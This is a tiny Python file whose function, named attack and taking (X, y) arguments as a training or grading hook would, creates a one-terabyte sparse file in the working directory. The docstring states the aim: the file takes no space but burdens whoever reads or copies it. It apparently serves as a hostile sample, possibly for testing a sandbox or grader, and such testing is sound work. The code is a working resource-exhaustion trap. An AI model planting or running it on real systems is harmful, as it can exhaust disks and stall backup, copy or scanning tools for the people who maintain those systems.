"""Makes a file of one terabyte that takes no space, for whoever reads or copies it."""

import os


def attack(X, y):
    with open("sparse", "wb") as file:
        os.ftruncate(file.fileno(), 1 << 40)
    return True
